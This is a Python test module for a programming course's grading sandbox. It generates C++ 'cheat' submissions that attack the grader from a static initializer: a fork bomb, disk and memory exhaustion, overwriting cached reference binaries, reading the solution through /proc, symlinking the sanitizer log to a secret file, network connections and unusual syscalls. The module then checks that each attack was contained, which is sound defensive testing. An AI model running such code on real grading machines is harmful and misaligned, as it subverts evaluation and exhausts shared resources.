"""Cheats against the fence (labs/grader/fence.py): each one is a submission whose code got past
the lint (lab.py selftest grades it with the lint off: "lint": False) and attacks the grading
machine from inside its run. They prove that the operating system holds by itself.

Every attack is plain C++ (ATTACKS below) that runs before main(): in the submission, the
region closes its kernel (which does no work) and the attack runs from a static initializer at
file scope, in every run of the driver (check, sanitizer, timed). Whatever it gets past the
fence it prints as a line that starts with "LEAK", then it stops (exit 3), so that the line
reaches the report through the program's last lines. Each cheat must score 0 on the task it
attacks (ch02.2; ch02.1, untouched, keeps its points), and its check (after) finds, once the
grade is over: no LEAK line and no secret in the report, none of its processes alive, none of
its files left in /tmp or /dev/shm, the reference cache unchanged, its listener never reached.

tests/labs/test_fence.py compiles the same attacks with g++ and runs them in the fence on a
machine without a GPU, beside a scratch folder laid out as the grader's (a reference there, a
cache, the course repository in a process's command line), and applies the same checks.
"""
import atexit
import hashlib
import json
import os
import secrets
import socket
import threading
from pathlib import Path

NN, GS = "VA-GPU-NN.cu", "ch02.grid-stride"
HEADERS = ["cerrno", "csignal", "cstdio", "cstdlib", "cstring", "string", "vector", "dirent.h",
           "fcntl.h", "glob.h", "netinet/in.h", "arpa/inet.h", "sys/socket.h", "sys/stat.h",
           "sys/types.h", "sys/syscall.h", "sys/mount.h", "unistd.h"]
COMMON = r"""
static std::vector<std::string> lab_cmdline(const char* path) {
    std::vector<std::string> out;
    FILE* f = std::fopen(path, "rb");
    if (!f) return out;
    std::string cur;
    for (int ch; (ch = std::fgetc(f)) != EOF;) {
        if (ch == 0) { out.push_back(cur); cur.clear(); } else cur += (char)ch;
    }
    std::fclose(f);
    return out;
}
static std::vector<std::string> lab_glob(const char* pattern) {
    std::vector<std::string> out;
    glob_t g;
    if (glob(pattern, 0, nullptr, &g) == 0)
        for (size_t i = 0; i < g.gl_pathc; i++) out.push_back(g.gl_pathv[i]);
    globfree(&g);
    return out;
}
// Where the attack may write: everywhere, in a submission (the fence must stop it); only under
// LAB_WRITE_ROOT where test_fence.py runs it on a CPU through the weakest fence, which does not
// stop it: there it would overwrite the caches of any grader running beside it (a lab self-test
// beside ctest's lab.fence, a course's build-lab/), not only the test's own.
static bool lab_may_write(const std::string& path) {
    const char* root = LAB_WRITE_ROOT;
    return !*root || path.compare(0, std::strlen(root), root) == 0;
}
// Every absolute path in the command lines of every process this program can see.
static std::vector<std::string> lab_paths_seen() {
    std::vector<std::string> out;
    for (const std::string& p : lab_glob("/proc/[0-9]*/cmdline"))
        for (const std::string& a : lab_cmdline(p.c_str())) {
            std::string v = a.find('=') != std::string::npos ? a.substr(a.find('=') + 1) : a;
            if (!v.empty() && v[0] == '/') out.push_back(v);
        }
    for (const std::string& p : lab_glob("/proc/[0-9]*/cwd")) {
        char buf[4096];
        ssize_t n = readlink(p.c_str(), buf, sizeof buf - 1);
        if (n > 0) { buf[n] = 0; out.push_back(buf); }
    }
    return out;
}
"""

# name: (what it tries, the C++ body of lab_cheat(); MARK is replaced by the cheat's marker)
ATTACKS = {
    "runs-reference-found-on-disk": (
        "finds a reference driver (the grader's scratch folder, the cache, through /proc/1/root) "
        "and runs it in place of itself, with its own arguments",
        r"""
    std::vector<std::string> args = lab_cmdline("/proc/self/cmdline");
    std::vector<std::string> found;
    const char* pats[] = {"../ref/reference-*", "../bin/reference-*", "/tmp/lab-grade-*/ref/reference-*",
                          "/tmp/lab-grade-*/bin/reference-*", "/proc/1/root/tmp/lab-grade-*/ref/reference-*",
                          "/proc/[0-9]*/root/tmp/lab-grade-*/ref/reference-*"};
    for (const char* p : pats) for (const std::string& m : lab_glob(p)) found.push_back(m);
    for (const std::string& p : lab_paths_seen()) {
        for (const std::string& m : lab_glob((p + "/cache/*/driver").c_str())) found.push_back(m);
        for (const std::string& m : lab_glob((p + "/build-lab/cache/*/driver").c_str())) found.push_back(m);
    }
    std::vector<char*> argv;
    for (std::string& a : args) argv.push_back(&a[0]);
    argv.push_back(nullptr);
    for (const std::string& m : found) {
        if (access(m.c_str(), X_OK) != 0) continue;
        std::printf("LEAK: running the reference %s\n", m.c_str());
        std::fflush(stdout);
        execv(m.c_str(), argv.data());
    }
    std::printf("no reference found (%zu candidates)\n", found.size());
    std::exit(3);
"""),
    "reads-course-repo-via-proc": (
        "reads the course repository's solution through the paths in /proc/*/cmdline and "
        "/proc/*/cwd, directly and through /proc/1/root, and prints it",
        r"""
    for (std::string p : lab_paths_seen()) {
        for (int up = 0; up < 8 && !p.empty(); up++) {
            for (const char* root : {"", "/proc/1/root"}) {
                std::string f = std::string(root) + p + "/ch02_vector_add/VA-GPU-NN.cu";
                FILE* s = std::fopen(f.c_str(), "r");
                if (!s) continue;
                char line[512];
                while (std::fgets(line, sizeof line, s))
                    if (std::strstr(line, "stride"))
                        std::printf("LEAK: %s: %s", f.c_str(), line);
                std::fclose(s);
                std::exit(3);
            }
            p = p.substr(0, p.rfind('/'));
        }
    }
    std::printf("no course repository in view\n");
    std::exit(3);
"""),
    "leaves-files-in-tmp-and-shm": (
        "writes files into /tmp, /dev/shm, /var/tmp and the folder above its own, and reads "
        "back what an earlier run of it left there",
        r"""
    const char* places[] = {"/tmp/MARK", "/dev/shm/MARK", "/var/tmp/MARK", "../MARK"};
    for (const char* p : places) {
        if (access(p, F_OK) == 0) std::printf("LEAK: %s survived from an earlier run\n", p);
        FILE* f = std::fopen(p, "w");
        if (f) { std::fputs("MARK\n", f); std::fclose(f); }
    }
    std::exit(3);
"""),
    "outlives-the-grade": (
        "forks twice, leaves its session (setsid), clears its environment and sleeps for an "
        "hour, to rewrite later runs' outputs",
        r"""
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            clearenv();
            for (int fd = 0; fd < 1024; fd++) close(fd);
            execl("/bin/sleep", "sleep", "MARK_SLEEP", (char*)nullptr);
            _exit(0);
        }
        _exit(0);
    }
    usleep(200000);
    std::exit(3);
"""),
    "sanitizer-log-symlink": (
        "replaces the sanitizer's log (its run folder's sanitizer.log) by a symbolic link to a "
        "root-only file, for the grader to copy into the report; its kernel is honest, so that "
        "the sanitizer runs",
        r"""
    unlink("sanitizer.log");
    if (symlink("/tmp/MARK-secret", "sanitizer.log") == 0) std::printf("planted a link\n");
    return;
"""),
    "sanitizer-log-fifo": (
        "replaces the sanitizer's log by a FIFO, for the grader to wait on forever; its kernel "
        "is honest, so that the sanitizer runs",
        r"""
    unlink("sanitizer.log");
    if (mkfifo("sanitizer.log", 0666) == 0) {
        static int keep = open("sanitizer.log", O_RDWR | O_NONBLOCK);  // the sanitizer never blocks
        (void)keep;
        std::printf("planted a FIFO\n");
    }
    return;
"""),
    "poisons-reference-cache": (
        "finds the reference cache (the grader's --work in /proc/*/cmdline, build-lab beside "
        "the repository, the private caches) and writes itself over every cached reference",
        r"""
    std::vector<std::string> found;
    for (const std::string& p : lab_paths_seen())
        for (const char* sub : {"/cache/*/driver", "/private-cache*/*/driver", "/build-lab/cache/*/driver"})
            for (const std::string& m : lab_glob((p + sub).c_str())) found.push_back(m);
    for (const std::string& m : found) {
        if (!lab_may_write(m)) continue;
        int fd = open(m.c_str(), O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            std::printf("LEAK: poisoned %s\n", m.c_str());
            (void)!write(fd, "#!/bin/sh\nexit 0\n", 17);
            close(fd);
        }
        std::string tmp = m + ".new";
        FILE* f = std::fopen(tmp.c_str(), "w");
        if (f) {
            std::fclose(f);
            if (rename(tmp.c_str(), m.c_str()) == 0) std::printf("LEAK: replaced %s\n", m.c_str());
        }
    }
    std::printf("%zu cached references seen\n", found.size());
    std::exit(3);
"""),
    "reaches-the-network": (
        "connects to a listener of the grading machine (127.0.0.1) and to an outside address",
        r"""
    struct { const char* ip; int port; } to[] = {{"127.0.0.1", MARK_PORT}, {"8.8.8.8", 53}};
    for (auto& t : to) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) continue;
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_port = htons(t.port);
        inet_pton(AF_INET, t.ip, &a.sin_addr);
        struct timeval tv = {2, 0};
        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
        if (connect(s, (sockaddr*)&a, sizeof a) == 0) {
            std::printf("LEAK: connected to %s:%d\n", t.ip, t.port);
            (void)!write(s, "MARK\n", 5);
        } else {
            std::printf("no connection to %s:%d (%s)\n", t.ip, t.port, std::strerror(errno));
        }
        close(s);
    }
    std::exit(3);
"""),
    "fork-bomb": (
        "forks until it cannot, every child a sleeper, to starve the machine and outlive the run",
        r"""
    int n = 0;
    for (; n < 100000; n++) {
        pid_t p = fork();
        if (p < 0) break;
        if (p == 0) { execl("/bin/sleep", "sleep", "MARK_SLEEP", (char*)nullptr); _exit(0); }
    }
    std::printf("%s: %d processes\n", n >= 100000 ? "LEAK: no process limit" : "stopped", n);
    std::exit(3);
"""),
    "fills-the-disk": (
        "writes one file until the disk is full (SIGXFSZ ignored, to see how far it gets)",
        r"""
    std::signal(SIGXFSZ, SIG_IGN);
    static char block[1 << 20];
    std::memset(block, 'x', sizeof block);
    long long mb = 0;
    for (const char* p : {"big.bin", "/dev/shm/MARK-big", "/tmp/MARK-big"}) {
        FILE* f = std::fopen(p, "w");
        if (!f) continue;
        long long here = 0;
        while (here < 4096 && std::fwrite(block, 1, sizeof block, f) == sizeof block && std::fflush(f) == 0) here++;
        std::fclose(f);
        unlink(p);
        mb += here;
    }
    std::printf("%s: %lld MiB written\n", mb >= 3 * 4096 ? "LEAK: no file size limit" : "stopped", mb);
    std::exit(3);
"""),
    "memory-hog": (
        "takes and touches 24 GiB of host memory, 1 GiB at a time",
        r"""
    long long gib = 0;
    for (; gib < 24; gib++) {
        char* p = (char*)std::malloc(1LL << 30);
        if (!p) break;
        for (long long i = 0; i < (1LL << 30); i += 4096) p[i] = 1;
    }
    std::printf("%s: %lld GiB held\n", gib >= 24 ? "LEAK: no memory limit" : "stopped", gib);
    std::exit(3);
"""),
    "syscalls-outside-the-list": (
        "makes system calls that no CUDA program needs (an AF_INET or netlink socket, ptrace, "
        "personality, keyctl, add_key, mount, unshare, bpf, perf_event_open, io_uring_setup, "
        "userfaultfd, kexec_load) and reports each that the kernel carried out",
        r"""
    struct { const char* name; long nr; long a, b, c, d, e; } calls[] = {
        {"socket(AF_INET)", 41, 2, 1, 0, 0, 0},       // SYS_socket, AF_INET, SOCK_STREAM
        {"socket(AF_NETLINK)", 41, 16, 3, 0, 0, 0},   // SOCK_RAW, NETLINK_ROUTE
        {"ptrace(PTRACE_TRACEME)", 101, 0, 0, 0, 0, 0},
        {"personality(query)", 135, 0xffffffffL, 0, 0, 0, 0},
        {"keyctl(GET_KEYRING_ID)", 250, 0, -2, 0, 0, 0},  // KEY_SPEC_PROCESS_KEYRING
        {"add_key", 248, (long)"user", (long)"MARK", (long)"x", 1, -2},
        {"mount(tmpfs)", 165, (long)"none", (long)"MARK-mnt", (long)"tmpfs", 0, 0},
        {"unshare(CLONE_NEWUSER)", 272, 0x10000000, 0, 0, 0, 0},
        {"bpf(BPF_MAP_CREATE)", 321, 0, 0, 0, 0, 0},
        {"perf_event_open", 298, 0, 0, -1, -1, 0},
        {"io_uring_setup", 425, 1, 0, 0, 0, 0},
        {"userfaultfd", 323, 0, 0, 0, 0, 0},
        {"kexec_load", 246, 0, 1, 0, 0x7fff0000L, 0},  // invalid flags: EINVAL where it is allowed
    };
    static char params[120];
    calls[10].b = (long)params;  // io_uring_setup's parameters: zeroed
    static char attr[128];
    attr[4] = 112;  // perf_event_attr.size
    calls[9].a = (long)attr;
    static char bpfattr[64] = {2, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1, 0, 0, 0};  // BPF_MAP_TYPE_ARRAY
    calls[8].b = (long)bpfattr;
    calls[8].c = 64;
    // Harmless where it gets through (the weakest fence runs it as the grader's user, root on
    // a CI machine): the mount goes on a folder of its own and is taken off again, kexec_load
    // gets invalid flags, the rest only touches this process.
    mkdir("MARK-mnt", 0700);
    int done = 0, refused = 0;
    for (auto& c : calls) {
        errno = 0;
        long r = syscall(c.nr, c.a, c.b, c.c, c.d, c.e);
        if (r >= 0 && c.nr == 165) umount2("MARK-mnt", 2);  // MNT_DETACH
        if (r >= 0) {
            std::printf("LEAK: %s carried out (%ld)\n", c.name, r);
            done++;
        } else if (errno == EPERM) {
            refused++;
        } else {
            std::printf("%s failed: %s\n", c.name, std::strerror(errno));
        }
    }
    rmdir("MARK-mnt");
    std::printf("%d carried out, %d refused with EPERM\n", done, refused);
    std::fflush(stdout);
    std::exit(3);
"""),
    "sees-the-graders-paths": (
        "looks for the grader's scratch folder (lab-grade-..., server-run-...) in its own argv[0], "
        "executable, cwd, environment, and /proc/self/mountinfo's mount points and root column "
        "(each mount's path within its file system: a bind's names its source), and prints "
        "what it finds",
        r"""
    std::vector<std::string> seen;
    std::vector<std::string> args = lab_cmdline("/proc/self/cmdline");
    if (!args.empty()) seen.push_back("argv[0] " + args[0]);
    char buf[4096];
    for (const char* link : {"/proc/self/exe", "/proc/self/cwd"}) {
        ssize_t n = readlink(link, buf, sizeof buf - 1);
        if (n > 0) { buf[n] = 0; seen.push_back(std::string(link) + " " + buf); }
    }
    for (const std::string& e : lab_cmdline("/proc/self/environ")) seen.push_back("environ " + e);
    if (FILE* f = std::fopen("/proc/self/mountinfo", "r")) {
        char id[64], parent[64], dev[64], root[4096], point[4096];
        while (std::fscanf(f, "%63s %63s %63s %4095s %4095s%*[^\n]", id, parent, dev, root, point) == 5)
            seen.push_back(std::string("mount point ") + point + " root " + root);
        std::fclose(f);
    }
    int found = 0;
    for (const std::string& s : seen)
        if (s.find("lab-grade-") != std::string::npos || s.find("server-run-") != std::string::npos) {
            std::printf("LEAK: the grader's scratch path: %s\n", s.substr(0, 200).c_str());
            found++;
        }
    std::printf("%zu paths looked at, %d of the grader's\n", seen.size(), found);
    std::fflush(stdout);
    std::exit(3);
"""),
}
HONEST = {"sanitizer-log-symlink", "sanitizer-log-fifo"}  # the kernel works: the sanitizer must run


# This process's own part of every mark: lab.fence leaves files and sleepers on purpose (through
# the weakest fence) while a lab self-test beside it checks that its own cheats left none, so the
# two must not share a mark (nor clean up each other's).
RUN = f"{os.getpid() % 10 ** 6:06d}"


def marker(name):
    """The cheat's own mark: its file names, its sleepers' argument, its secret's name."""
    digits = int(hashlib.sha256(name.encode()).hexdigest()[:8], 16) % 10 ** 6
    return f"lab-fence-{name}-{RUN}", f"4711.{digits:06d}{RUN}"


def program(name, port=0, main=False, write_root=""):
    """The attack as C++: a function lab_cheat() and, for the submission, a static initializer
    that calls it before main() (main=True: a main() that calls it, for g++ on a CPU).
    write_root: where an attack that writes may write (test_fence.py: its own scratch folder;
    "" in a submission: anywhere)."""
    if '"' in write_root or "\\" in write_root:
        raise ValueError(f"write_root {write_root!r}")
    mark, sleep = marker(name)
    body = ATTACKS[name][1].replace("MARK_SLEEP", sleep).replace("MARK_PORT", str(port)).replace("MARK", mark)
    inc = "\n".join(f"#include <{h}>" for h in HEADERS)
    run = "int main() { lab_cheat(); return 0; }" if main else \
        "static int lab_cheat_ran = (lab_cheat(), 0);"
    return f"{inc}\n#define LAB_WRITE_ROOT \"{write_root}\"\n{COMMON}\nstatic void lab_cheat() {{{body}}}\n{run}\n"


class Listener:
    """A TCP listener on the grading machine's loopback; counts who reached it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.reached = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.reached += 1
            conn.close()


LISTENERS = {}


def secret_file(name):
    """A root-only file the symlink cheat points at, with a fresh secret in it."""
    path = Path("/tmp") / f"{marker(name)[0]}-secret"
    text = f"SECRET-{secrets.token_hex(8)}"
    try:
        path.unlink()
    except FileNotFoundError:
        pass
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    with os.fdopen(fd, "w") as f:
        f.write(text + "\n")
    # Gone when this process ends, whoever made it: a cheat folder made and never graded (the
    # compiler tests, a self-test without a GPU) never reaches cleanup() and left it in /tmp.
    atexit.register(lambda: path.unlink(missing_ok=True))
    return text


SECRETS = {}


def alive(sleep):
    """pids of the processes whose command line holds the sleepers' argument."""
    out = []
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                if sleep.encode() in Path(f"/proc/{d}/cmdline").read_bytes():
                    out.append(int(d))
            except OSError:
                pass
    return out


def problems(name, text, work=None):
    """What the grade (or the fenced run, on a CPU) let through: text is the report (or the
    run's output); work: the grader's --work folder, whose cache must be unchanged."""
    mark, sleep = marker(name)
    found = [f"{name}: the report holds what the attack got: {l.strip()[:200]}"
             for l in text.split("\n") if "LEAK" in l][:3]
    if name in SECRETS and SECRETS[name] in text:
        found.append(f"{name}: the secret file reached the report")
    pids = alive(sleep)
    if pids:
        found.append(f"{name}: {len(pids)} of its processes outlived the grade")
    for d in ("/tmp", "/dev/shm", "/var/tmp"):
        for p in Path(d).glob(mark + "*"):
            if not p.name.endswith("-secret"):
                found.append(f"{name}: it left {p} outside the fence")
    if name in LISTENERS and LISTENERS[name].reached:
        found.append(f"{name}: it reached a listener of the grading machine")
    if work is not None:
        for m in Path(work).glob("cache/*/manifest.json"):
            d = m.parent / "driver"
            if d.exists() and hashlib.sha256(d.read_bytes()).hexdigest() != json.loads(m.read_text())["sha256"]:
                found.append(f"{name}: the cached reference {d} was changed")
    return found


def cleanup(name):
    mark, sleep = marker(name)
    for pid in alive(sleep):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    for d in ("/tmp", "/dev/shm", "/var/tmp"):
        for p in Path(d).glob(mark + "*"):
            try:
                p.unlink()
            except OSError:
                pass


def make(name):
    def go(folder, lab):
        from cheats import set_region  # noqa: E402  (tests/labs/cheats/cheats.py)
        port = 0
        if name == "reaches-the-network":
            LISTENERS[name] = Listener()
            port = LISTENERS[name].port
        if name == "sanitizer-log-symlink":
            SECRETS[name] = secret_file(name)
        work = (["long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x;",
                 "for (; i < n; i += (long long)gridDim.x * blockDim.x) c[i] = a[i] + b[i];"]
                if name in HONEST else ["(void)a; (void)b; (void)c; (void)n;"])
        set_region(folder, lab, NN, GS, work + ["}"] + program(name, port).split("\n") +
                   ["__global__ void lab_cheat_rest(int) {"])
    return go


def after(name):
    def check(folder, report):
        text = (Path(report) / "results.json").read_text()
        found = problems(name, text, Path(report).parents[2])
        if name == "memory-hog" and "memory unlimited (" in json.loads(text).get("fence_detail", ""):
            # The report says that memory is not limited here (no cgroup v2 to do it), and why.
            found = [f for f in found if "no memory limit" not in f]
        cleanup(name)
        return found
    return check


CHEATS = [{"name": f"fence-{name}", "lab": "ch02", "zero": ["ch02.2"], "gpu": True, "lint": False,
           "tries": ATTACKS[name][0], "make": make(name), "after": after(name)} for name in ATTACKS]
